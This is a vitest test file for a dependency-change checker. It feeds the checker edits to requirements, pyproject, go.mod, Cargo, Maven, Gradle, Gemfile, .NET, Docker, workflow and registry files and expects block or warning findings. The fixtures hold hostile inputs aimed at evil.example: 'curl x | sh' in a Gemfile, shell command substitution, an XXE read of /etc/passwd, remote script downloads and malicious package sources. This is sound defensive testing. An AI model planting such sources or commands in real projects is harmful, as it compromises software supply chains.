import { describe, expect, it } from 'vitest';
import { judgeBy, modified } from '../testing.ts';

type Case = readonly [what: string, before: string, after: string, said: readonly string[]];

/** `BLOCK 3 Adds the dependency x …`, in the order of the report. */
const said = (path: string, before: string, after: string): string[] =>
  judgeBy('dependencies', [modified(path, { text: before }, { text: after })]).violations.map(({ severity, line, message }) => `${severity} ${line ?? '-'} ${message}`);

/** Each expected text must be part of the finding at its place, and there must be no other finding. */
function check(path: string, [, before, after, expected]: Case): void {
  const found = said(path, before, after);
  const compared = found.map((sentence, index) => (sentence.includes(expected[index] ?? '(nothing more)') ? expected[index] : sentence));
  expect(compared.join('\n')).toBe(expected.join('\n'));
  expect(said(path, before, before)).toEqual([]);
}

describe('requirements.txt', () => {
  const base = 'requests==2.31.0\nflask>=2,<3 ; python_version >= "3.8"\n';
  it.each<Case>([
    ['a new name', base, `${base}evil==1.0\n`, ['BLOCK 3 Adds the dependency evil ==1.0']],
    ['a new version', base, base.replace('2.31.0', '2.32.0'), ['WARN 1 Raises requests']],
    ['an older version', base, base.replace('2.31.0', '2.3.0'), ['WARN 1 Lowers requests']],
    ['a removed name', base, 'requests==2.31.0\n', ['WARN - Removes the dependency flask']],
    ['another spelling of a name, comments, spaces', base, '# note\nRequests == 2.31.0  # pinned\nFlask >=2, <3; python_version >= "3.8"', []],
    ['another index', base, `--index-url https://evil.example/simple\n${base}`, ['BLOCK 1 Adds where packages come from: --index-url']],
    ['a further index', base, `${base}--extra-index-url=https://evil.example/simple\n`, ['BLOCK 3 Adds where packages come from: --extra-index-url']],
    ['a trusted host', base, `${base}--trusted-host evil.example\n`, ['BLOCK 3 Adds where packages come from: --trusted-host']],
    ['another file', base, `${base}-r other.txt\n`, ['BLOCK 3 Adds an entry point: requirements of other.txt']],
    ['a git address', base, base.replace('requests==2.31.0', 'requests @ git+https://evil.example/r.git@main'), ['BLOCK 1 Takes requests']],
    ['an editable address', base, `${base}-e git+https://evil.example/x.git#egg=x\n`, ['BLOCK 3 Adds the dependency x from git']],
    ['a wheel of a URL', base, `${base}https://evil.example/evil-1.0-py3-none-any.whl\n`, ['BLOCK 3 Adds the dependency evil from url']],
    ['a folder', base, `${base}./vendor/x\n`, ['BLOCK 3 Adds the dependency']],
    ['a continued line', base, `${base}evil \\\n  == 1.0 \\\n  --hash=sha256:${'a'.repeat(64)}\n`, ['BLOCK 3 Adds the dependency evil ==1.0']],
    ['extras', base, base.replace('requests==', 'requests[socks]=='), ['WARN 1 Changes']],
    ['a marker', base, base.replace('"3.8"', '"3.9"'), ['WARN 2 Changes what is asked of flask']],
    ['a line that ends as Python sees it', base, `${base}a==1\fevil==1\n`, ['BLOCK 3 Adds the dependency a', 'BLOCK 4 Adds the dependency evil']],
    ['a line that is none', base, `${base}!!!\n`, ['BLOCK 3 requirements.txt cannot be read']],
  ])('%s', (...each) => check('requirements.txt', each));
  it.each(['requirements-dev.txt', 'dev-requirements.txt', 'requirements/prod.txt', 'constraints.txt', 'requirements.in', 'Requirements.TXT', 'test_requirements.txt'])('is also %s', (path) => {
    expect(said(path, '', 'evil==1\n')).toHaveLength(1);
  });
});

describe('pyproject.toml', () => {
  const pep = '[project]\nname = "x"\ndependencies = [\n  "requests>=2",\n]\n\n[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n';
  const poetry = '[tool.poetry.dependencies]\npython = "^3.11"\nrequests = "^2.31"\n';
  it.each<Case>([
    ['a new dependency', pep, pep.replace('"requests>=2",', '"requests>=2",\n  "evil",'), ['BLOCK 5 Adds the dependency evil']],
    ['an optional one', pep, `${pep}[project.optional-dependencies]\nx = ["evil>1"]\n`, ['BLOCK 11 Adds the dependency evil >1']],
    ['a group', pep, `${pep}[dependency-groups]\ndev = ["evil", {include-group = "x"}]\n`, ['BLOCK 11 Adds the dependency evil', 'BLOCK - Adds the dependency']],
    ['what the build needs', pep, pep.replace('["hatchling"]', '["hatchling", "evil"]'), ['BLOCK 8 Adds the dependency evil']],
    ['the build backend', pep, pep.replace('hatchling.build', 'evil'), ['BLOCK 9 Changes the command build-system.build-backend']],
    ['a program', pep, `${pep}[project.scripts]\nx = "x:main"\n`, ['BLOCK 10 Adds an entry point: project.scripts']],
    ['formatting', pep, pep.replace('[\n  "requests>=2",\n]', "[ 'requests >= 2' ]").replace('name = "x"', 'name="x" # note'), []],
    ["Poetry's table", poetry, `${poetry}evil = {version = "*", extras = ["a"]}\n`, ['BLOCK 4 Adds the dependency evil *']],
    ["Poetry's source", poetry, poetry.replace('"^2.31"', '{git = "https://evil.example/r.git", branch = "main"}'), ['BLOCK 3 Takes requests']],
    ["Poetry's registries", poetry, `${poetry}[[tool.poetry.source]]\nname = "evil"\nurl = "https://evil.example"\n`, ['BLOCK 4 Adds where packages come from: tool.poetry.source']],
    ['a table written in another way', poetry, '[tool.poetry]\ndependencies = { requests = "^2.31", python = "^3.11" }\n', []],
    ["uv's index", pep, `${pep}[[tool.uv.index]]\nurl = "https://evil.example"\n`, ['BLOCK 10 Adds where packages come from: tool.uv.index']],
    ["uv's sources", pep, `${pep}[tool.uv.sources]\nrequests = {git = "https://evil.example/r"}\n`, ['BLOCK 11 Takes requests']],
    ['no TOML', pep, '[project\n', ['BLOCK 1 pyproject.toml cannot be read']],
    ['a table given twice', pep, `${pep}[project]\nname = "y"\n`, ['BLOCK 10 pyproject.toml cannot be read']],
  ])('%s', (...each) => check('pyproject.toml', each));
});

describe('other files of Python', () => {
  it('Pipfile', () => {
    const base = '[packages]\nrequests = "*"\n';
    check('Pipfile', ['', base, `${base}evil = "*"\n[[source]]\nurl = "https://evil.example"\nname = "e"\nverify_ssl = false\n`, ['BLOCK 3 Adds the dependency evil', 'BLOCK 4 Adds where packages come from: source']]);
  });
  it('setup.cfg', () => {
    check('setup.cfg', ['', '[options]\ninstall_requires =\n  a>=1\n', '[options]\ninstall_requires =\n  a>=1\n  evil\n', ['BLOCK 4 Adds the dependency evil']]);
  });
  it("conda's environment.yml", () => {
    check('environment.yml', ['', 'channels: [conda-forge]\ndependencies:\n  - numpy=1.0\n', 'channels: [conda-forge, evil]\ndependencies:\n  - numpy=1.1\n  - pip:\n    - evil\n', ['WARN 3 Raises numpy', 'BLOCK 5 Adds the dependency evil', 'BLOCK 1 Adds where packages come from: channels']]);
  });
  it('pip.conf, whose values are not shown', () => {
    check('pip.conf', ['', '[global]\ntimeout = 1\n', '[global]\ntimeout = 1\nindex-url = https://u:secret@evil.example\n', ['BLOCK 3 Adds where packages come from: global.index-url in pip.conf.']]);
  });
});

describe('go.mod', () => {
  const base = 'module example.com/x\n\ngo 1.22\n\nrequire (\n\tgithub.com/a/b v1.2.3\n\tgithub.com/c/d v0.1.0 // indirect\n)\n';
  it.each<Case>([
    ['a new module', base, base.replace(')', '\tevil.example/x v1.0.0\n)'), ['BLOCK 8 Adds the dependency evil.example/x v1.0.0']],
    ['a module in a line of its own', base, `${base}require evil.example/x v1.0.0\n`, ['BLOCK 9 Adds the dependency evil.example/x']],
    ['a quoted module', base, `${base}require "evil.example/x" v1.0.0\n`, ['BLOCK 9 Adds the dependency evil.example/x']],
    ['a new version', base, base.replace('v1.2.3', 'v1.10.0'), ['WARN 6 Raises github.com/a/b in go.mod from v1.2.3 to v1.10.0']],
    ['a replacement', base, `${base}replace github.com/a/b => evil.example/b v1.2.3\n`, ['BLOCK 9 Takes github.com/a/b']],
    ['a replacement by a folder', base, `${base}replace github.com/a/b v1.2.3 => ../b\n`, ['BLOCK 9 Takes github.com/a/b']],
    ['the language', base, base.replace('go 1.22', 'go 1.23'), ['WARN 3 Raises go']],
    ['layout and comments', base, 'module example.com/x\ngo 1.22\nrequire github.com/c/d v0.1.0\nrequire github.com/a/b v1.2.3 // why\n', []],
    ['a tool', base, `${base}tool evil.example/cmd\n`, ['BLOCK 9 Adds the dependency evil.example/cmd']],
    ['an unknown line', base, `${base}evil\n`, ['BLOCK 9 go.mod cannot be read']],
    ['a block without an end', base, base.replace(')', ''), ['BLOCK - go.mod cannot be read']],
  ])('%s', (...each) => check('go.mod', each));
});

describe('Cargo.toml', () => {
  const base = '[package]\nname = "x"\nversion = "0.1.0"\n\n[dependencies]\nserde = "1.0"\n';
  it.each<Case>([
    ['a new crate', base, `${base}evil = "1"\n`, ['BLOCK 7 Adds the dependency evil 1']],
    ['a crate for building', base, `${base}\n[build-dependencies]\ncc = "1"\n`, ['BLOCK 9 Adds the dependency cc 1']],
    ['a crate for one target', base, `${base}\n[target.'cfg(unix)'.dependencies]\nevil = "1"\n`, ['BLOCK 9 Adds the dependency evil']],
    ['a crate of the workspace', base, `${base}\n[workspace.dependencies]\nevil = "1"\n`, ['BLOCK 9 Adds the dependency evil']],
    ['a table of its own', base, `${base}\n[dependencies.evil]\nversion = "1"\n`, ['BLOCK 8 Adds the dependency evil 1']],
    ['a version', base, base.replace('"1.0"', '"1.1"'), ['WARN 6 Raises serde']],
    ['the same in a table', base, base.replace('"1.0"', '{ version = "1.0" }'), []],
    ['git', base, base.replace('"1.0"', '{ git = "https://evil.example/serde" }'), ['BLOCK 6 Takes serde in Cargo.toml from git https://evil.example/serde']],
    ['path', base, base.replace('"1.0"', '{ path = "../serde" }'), ['BLOCK 6 Takes serde']],
    ['another registry', base, base.replace('"1.0"', '{ version = "1.0", registry = "evil" }'), ['BLOCK 6 Takes serde']],
    ['another name', base, base.replace('"1.0"', '{ version = "1.0", package = "evil" }'), ['BLOCK 6 Takes serde in Cargo.toml from alias cargo:evil']],
    ['a patch', base, `${base}\n[patch.crates-io]\nserde = { git = "https://evil.example/serde" }\n`, ['BLOCK 9 Takes serde']],
    ['features', base, base.replace('"1.0"', '{ version = "1.0", features = ["derive"] }'), ['WARN 6 Changes what is asked of serde']],
    ['a build script', base, base.replace('version = "0.1.0"', 'version = "0.1.0"\nbuild = "evil.rs"'), ['BLOCK 4 Adds the command package.build']],
    ['its own version', base, base.replace('0.1.0', '0.2.0'), []],
  ])('%s', (...each) => check('Cargo.toml', each));
});

describe('pom.xml', () => {
  const pom = (inner: string, properties = ''): string => `<?xml version="1.0"?>\n<project xmlns="http://maven.apache.org/POM/4.0.0">\n  <properties>${properties}</properties>\n  <dependencies>\n    <dependency><groupId>org.a</groupId><artifactId>a</artifactId><version>1.0</version></dependency>\n${inner}\n  </dependencies>\n</project>\n`;
  const base = pom('');
  it.each<Case>([
    ['a new artifact', base, pom('<dependency><groupId>org.evil</groupId><artifactId>evil</artifactId><version>1</version></dependency>'), ['BLOCK 6 Adds the dependency org.evil:evil 1']],
    ['a version', base, base.replace('1.0<', '1.1<'), ['WARN 5 Raises org.a:a']],
    ['a version in a property', pom('', '<v>1</v>').replace('1.0<', '${v}<'), pom('', '<v>2</v>').replace('1.0<', '${v}<'), ['WARN 5 Raises org.a:a in pom.xml from 1 to 2']],
    ['an encoded name', base, pom('<dependency><groupId>org.&#101;vil</groupId><artifactId>e</artifactId></dependency>'), ['BLOCK 6 Adds the dependency org.evil:e']],
    ['a file', base, base.replace('</version>', '</version><systemPath>/x.jar</systemPath>'), ['BLOCK 5 Takes org.a:a in pom.xml from path /x.jar']],
    ['a plugin that runs something', base, base.replace('</project>', '<build><plugins><plugin><groupId>org.codehaus.mojo</groupId><artifactId>exec-maven-plugin</artifactId><executions><execution/></executions></plugin></plugins></build></project>'), ['BLOCK 8 Adds the dependency org.codehaus.mojo:exec-maven-plugin', 'BLOCK 8 Adds the command']],
    ['a repository', base, base.replace('</project>', '<repositories><repository><id>evil</id><url>https://evil.example</url></repository></repositories></project>'), ['BLOCK 8 Adds where packages come from: repository evil']],
    ['formatting and comments', base, base.replaceAll('><', '>\n<').replace('<dependencies>', '<!-- x --><dependencies>'), []],
    ['a document type', base, `<!DOCTYPE project [<!ENTITY x SYSTEM "file:///etc/passwd">]>${base.replace('<?xml version="1.0"?>\n', '')}`, ['BLOCK - pom.xml cannot be read']],
    ['no XML', base, base.replace('</project>', ''), ['BLOCK 7 pom.xml cannot be read']],
  ])('%s', (...each) => check('pom.xml', each));
});

describe('Gradle', () => {
  const base = "plugins {\n  id 'java'\n}\nrepositories { mavenCentral() }\ndependencies {\n  implementation 'org.a:a:1.0'\n}\n";
  it.each<Case>([
    ['a new artifact', base, base.replace("a:1.0'", "a:1.0'\n  testImplementation(\"org.evil:evil:1\")"), ['BLOCK 7 Adds the dependency org.evil:evil 1']],
    ['a version', base, base.replace('1.0', '1.1'), ['WARN 6 Raises org.a:a']],
    ['a map', base, base.replace("a:1.0'", "a:1.0'\n  implementation group: 'org.evil', name: 'evil', version: '1'"), ['BLOCK 7 Adds the dependency org.evil:evil 1']],
    ['a version in a variable', `def v = "1"\n${base.replace("'org.a:a:1.0'", '"org.a:a:$v"')}`, `def v = "2"\n${base.replace("'org.a:a:1.0'", '"org.a:a:${v}"')}`, ['WARN 7 Raises org.a:a in build.gradle from 1 to 2']],
    ['a plugin', base, base.replace("id 'java'", "id 'java'\n  id(\"evil\") version \"1\""), ['BLOCK 3 Adds the dependency evil 1']],
    ['a repository', base, base.replace('mavenCentral()', 'mavenCentral(); maven { url "https://evil.example" }'), ['BLOCK 4 Adds where packages come from: repository https://evil.example']],
    ['a repository by a setter', base, base.replace('mavenCentral()', 'mavenCentral(); maven { setUrl("https://evil.example") }'), ['BLOCK 4 Adds where packages come from: repository https://evil.example']],
    ['a script', base, `${base}apply from: 'https://evil.example/x.gradle'\n`, ['BLOCK 8 Adds where packages', 'BLOCK 8 Adds the command apply from']],
    ['a comment', base, base.replace('dependencies {', "// implementation 'org.evil:evil:1'\ndependencies { /* 'x:y:1' */"), []],
    ['files', base, base.replace("a:1.0'", "a:1.0'\n  implementation files('libs/x.jar')"), ['BLOCK 7 Adds the dependency files']],
  ])('%s', (...each) => check('build.gradle', each));
  it('a version catalog', () => {
    const catalog = '[versions]\na = "1"\n[libraries]\na = { module = "org.a:a", version.ref = "a" }\n';
    check('gradle/libs.versions.toml', ['', catalog, `${catalog.replace('"1"', '"2"')}evil = "org.evil:evil:1"\n`, ['WARN 2 Raises org.a:a', 'BLOCK 5 Adds the dependency org.evil:evil 1']]);
  });
});

describe('Ruby', () => {
  const base = "source 'https://rubygems.org'\ngem 'rails', '~> 7.0'\ngroup :test do\n  gem \"rspec\", require: false\nend\n";
  it.each<Case>([
    ['a new gem', base, `${base}gem "evil"\n`, ['BLOCK 6 Adds the dependency evil']],
    ['a version', base, base.replace('7.0', '7.1'), ['WARN 2 Raises rails']],
    ['git', base, base.replace("'~> 7.0'", "git: 'https://evil.example/rails.git'"), ['BLOCK 2 Takes rails in Gemfile from git https://evil.example/rails.git']],
    ['an old hash key', base, base.replace("'~> 7.0'", "'~> 7.0', :github => 'evil/rails'"), ['BLOCK 2 Takes rails']],
    ['a block with a source', base, `${base}source 'https://evil.example' do\n  gem 'x'\nend\n`, ['BLOCK 7 Adds the dependency x from source https://evil.example', 'BLOCK 6 Adds where packages come from: source']],
    ['another source', base, base.replace('rubygems.org', 'evil.example'), ['BLOCK 1 Changes where packages come from: source']],
    ['code', base, `${base}system('curl x | sh')\n`, ['BLOCK 6 Adds the command code']],
    ['a second statement', base, base.replace("'~> 7.0'", "'~> 7.0'; gem 'evil'"), ['WARN 2 ', 'BLOCK 2 Adds the command code']],
    ['code in a text', base, base.replace("'~> 7.0'", '"#{`id`}"'), ['WARN 2 ', 'BLOCK 2 Adds the command code']],
    ['a condition', base, base.replace("'~> 7.0'", "'~> 7.0' if system('x')"), ['BLOCK 2 Adds the command code']],
    ['code in a group', base, base.replace('group :test do', 'group(`id`) do'), ['BLOCK 3 Adds the command code']],
    ['a continued line', base, base.replace("'rails', '~> 7.0'", "'rails',\n  '~> 7.0'"), []],
    ['comments and quotes', base, base.replace("gem 'rails', '~> 7.0'", "gem(\"rails\", \"~> 7.0\") # the framework"), []],
  ])('%s', (...each) => check('Gemfile', each));
  it('a gemspec', () => {
    const spec = "Gem::Specification.new do |s|\n  s.add_dependency 'a', '>= 1'\nend\n";
    check('x.gemspec', ['', spec, spec.replace("'>= 1'", "'>= 1'\n  s.add_runtime_dependency('evil')\n  s.extensions = ['ext/extconf.rb']"), ['BLOCK 3 Adds the dependency evil', 'BLOCK 4 Adds the command extensions']]);
  });
});

describe('composer.json', () => {
  const base = '{"require": {"php": ">=8", "a/b": "^1"}, "scripts": {"test": "phpunit"}}';
  it.each<Case>([
    ['a new package', base, base.replace('"a/b"', '"evil/x": "1", "a/b"'), ['BLOCK 1 Adds the dependency evil/x 1']],
    ['a script', base, base.replace('"phpunit"', '"x", "post-install-cmd": "curl"'), ['BLOCK 1 Changes the command scripts.test', 'BLOCK 1 Adds the command scripts.post-install-cmd']],
    ['a repository', base, base.replace('{"require"', '{"repositories": [{"type": "vcs", "url": "https://evil.example"}], "require"'), ['BLOCK 1 Adds where packages come from: repositories']],
    ['a plugin that may run', base, base.replace('{"require"', '{"config": {"allow-plugins": true}, "require"'), ['BLOCK 1 Adds where packages come from: config']],
  ])('%s', (...each) => check('composer.json', each));
});

describe('.NET', () => {
  const base = '<Project Sdk="Microsoft.NET.Sdk">\n  <ItemGroup>\n    <PackageReference Include="A.B" Version="1.0.0" />\n  </ItemGroup>\n</Project>\n';
  it.each<Case>([
    ['a new package', base, base.replace('</ItemGroup>', '<PackageReference Include="Evil"><Version>1</Version></PackageReference></ItemGroup>'), ['BLOCK 4 Adds the dependency evil 1']],
    ['a version', base, base.replace('1.0.0', '2.0.0'), ['WARN 3 Raises a.b']],
    ['another case', base, base.replace('"A.B"', '"a.b"').replace('PackageReference', 'packagereference'), ['WARN 3 Moves']],
    ['a target', base, base.replace('</Project>', '<Target Name="x" BeforeTargets="Build"><Exec Command="curl" /></Target></Project>'), ['BLOCK 5 Adds the command Target x', 'BLOCK 5 Adds the command Exec']],
    ['a source', base, base.replace('<ItemGroup>', '<PropertyGroup><RestoreSources>https://evil.example</RestoreSources></PropertyGroup><ItemGroup>'), ['BLOCK 2 Adds where packages come from: RestoreSources']],
    ['a DLL', base, base.replace('</ItemGroup>', '<Reference Include="X"><HintPath>x.dll</HintPath></Reference></ItemGroup>'), ['BLOCK 4 Adds the dependency x from path x.dll']],
    ['another SDK', base, base.replace('Microsoft.NET.Sdk', 'Evil.Sdk'), ['BLOCK 1 Changes the command Sdk']],
  ])('%s', (...each) => check('src/X.csproj', each));
  it.each(['X.fsproj', 'Directory.Packages.props', 'Directory.Build.targets'])('is also %s', (path) => {
    expect(said(path, '<Project />', '<Project><ItemGroup><PackageVersion Include="Evil" Version="1" /></ItemGroup></Project>')).toHaveLength(1);
  });
});

describe('Dockerfile', () => {
  const base = 'ARG V=24\nFROM node:$V AS build\nRUN npm ci\nFROM build\nCOPY --from=build /a /b\n';
  const pinned = `FROM node:24@sha256:${'a'.repeat(64)}\n`;
  it.each<Case>([
    ['another image', base, base.replace('node:', 'evil/node:'), ['BLOCK 2 Adds the dependency evil/node 24', 'WARN - Removes the dependency node']],
    ['a newer image', base, base.replace('V=24', 'V=26'), ['WARN 2 Raises node in Dockerfile from 24 to 26']],
    ['a further image', base, `${base}FROM evil\n`, ['BLOCK 6 Adds the dependency evil']],
    ['an image copied from', base, `${base}COPY --from=evil/x:1 /a /b\n`, ['BLOCK 6 Adds the dependency evil/x 1']],
    ['an image mounted', base, `${base}RUN --mount=type=bind,from=evil/x,target=/x make\n`, ['BLOCK 6 Adds the dependency evil/x']],
    ['a frontend', base, `# syntax=evil/frontend:1\n${base}`, ['BLOCK 1 Adds the dependency evil/frontend 1']],
    ['a download', base, `${base}ADD https://evil.example/x.sh /x.sh\n`, ['BLOCK 6 Adds the dependency https://evil.example/x.sh']],
    ['a digest that goes', pinned, 'FROM node:24\n', ['BLOCK 1 Takes node in Dockerfile from the usual registry; it came from a place with a fixed hash']],
    ['a digest that comes', 'FROM node:24\n', pinned, ['WARN 1 Changes']],
    ['a here-document that is none', base, `${base}RUN echo "<<EOF"\nFROM evil\n`, ['BLOCK 7 Adds the dependency evil']],
    ['a here-document without an end', base, `${base}RUN <<EOF\nFROM evil\n`, ['BLOCK 7 Adds the dependency evil']],
    ['a continued FROM', base, base.replace('FROM node:$V AS build', 'from \\\n  --platform=linux/amd64 \\\n  docker.io/library/node:24 as Build'), []],
    ['a comment and a here-document', base, base.replace('RUN npm ci', '# FROM evil\nRUN <<EOF\nFROM evil\nEOF'), []],
  ])('%s', (...each) => check('Dockerfile', each));
  it.each(['docker/api.Dockerfile', 'Dockerfile.dev', 'Containerfile', 'DOCKERFILE'])('is also %s', (path) => {
    expect(said(path, 'FROM a\n', 'FROM a\nFROM evil\n')).toHaveLength(1);
  });
  it('compose files name images', () => {
    check('docker-compose.yml', ['', 'services:\n  a:\n    image: a:1\n', 'services:\n  a:\n    image: a:2\n  b: {image: evil}\n', ['WARN 3 Raises a', 'BLOCK 4 Adds the dependency evil']]);
  });
});

describe('workflows', () => {
  const pin = 'a'.repeat(40);
  const base = `jobs:\n  a:\n    steps:\n      - uses: actions/checkout@${pin} # v5\n`;
  it.each<Case>([
    ['a new action', base, `${base}      - uses: evil/action@v1\n`, ['BLOCK 5 Adds the dependency evil/action v1']],
    ['another commit', base, base.replace(pin, 'b'.repeat(40)), ['WARN 4 ']],
    ['a tag instead of a commit', base, base.replace(pin, 'v5'), ['BLOCK 4 Takes actions/checkout']],
    ['a container', base, base.replace('    steps:', '    container: evil/x:1\n    steps:'), ['BLOCK 3 Adds the dependency evil/x 1']],
    ['an image', base, `${base}      - uses: docker://evil/x:1\n`, ['BLOCK 5 Adds the dependency evil/x 1']],
  ])('%s', (...each) => check('.github/workflows/ci.yml', each));
});

describe('files that say where packages come from', () => {
  it.each<[string, string, string, string]>([
    ['.npmrc', 'save-exact=true\n', 'save-exact=true\n@acme:registry=https://evil.example\n', 'BLOCK 2 Adds where packages come from: @acme:registry in .npmrc.'],
    ['.npmrc', '', '//registry.npmjs.org/:_authToken=npm_secretsecret\n', 'BLOCK 1 Adds where packages come from: //registry.npmjs.org/:_authToken in .npmrc.'],
    ['.yarnrc.yml', 'nodeLinker: node-modules\n', 'nodeLinker: node-modules\nnpmRegistryServer: https://evil.example\n', 'BLOCK 2 Adds where packages come from: npmRegistryServer'],
    ['.yarnrc.yml', '', 'yarnPath: .yarn/evil.cjs\n', 'BLOCK 1 Adds the command yarnPath'],
    ['.pnpmfile.cjs', 'module.exports = {}\n', 'module.exports = {hooks: 1}\n', 'BLOCK 1 Changes the command the program'],
    ['pnpm-workspace.yaml', 'packages:\n  - a\n', 'packages:\n  - a\ncatalog:\n  evil: 1.0.0\n', 'BLOCK 4 Adds the dependency evil 1.0.0'],
    ['.cargo/config.toml', '', '[source.crates-io]\nreplace-with = "evil"\n', 'BLOCK 2 Adds where packages come from: source.crates-io.replace-with'],
    ['nuget.config', '<configuration/>', '<configuration><packageSources><add key="e" value="https://evil.example"/></packageSources></configuration>', 'BLOCK 1 Adds where packages come from: packageSources'],
    ['deno.json', '{}', '{"imports": {"x": "npm:evil@1"}}', 'BLOCK 1 Adds the dependency x 1 from alias npm:evil'],
  ])('%s', (path, before, after, expected) => {
    expect(said(path, before, after)).toEqual([expect.stringContaining(expected)]);
  });
});
